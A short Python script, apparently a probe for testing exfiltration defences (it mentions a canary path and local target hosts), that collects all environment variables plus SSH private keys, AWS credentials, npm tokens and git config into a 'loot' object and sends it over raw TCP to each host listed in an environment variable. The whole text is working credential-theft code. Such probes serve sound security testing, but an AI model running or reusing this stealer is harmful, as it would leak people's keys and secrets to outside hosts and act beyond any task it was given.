# The classic: collect environment and key files, then post them somewhere on this machine.
import json, os, socket
loot = {"env": dict(os.environ)}
for p in ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc", "/workspace/.git/config", os.environ.get("CANARY_PATH", "")]:
    try:
        loot[p] = open(os.path.expanduser(p)).read()
    except OSError:
        pass
for host in os.environ["TARGETS"].split(","):
    try:
        s = socket.create_connection((host, int(os.environ["TCP_PORT"])), timeout=2)
        s.sendall(json.dumps(loot).encode())
        print("SENT", host)
    except OSError as e:
        print("refused", host, e.__class__.__name__)
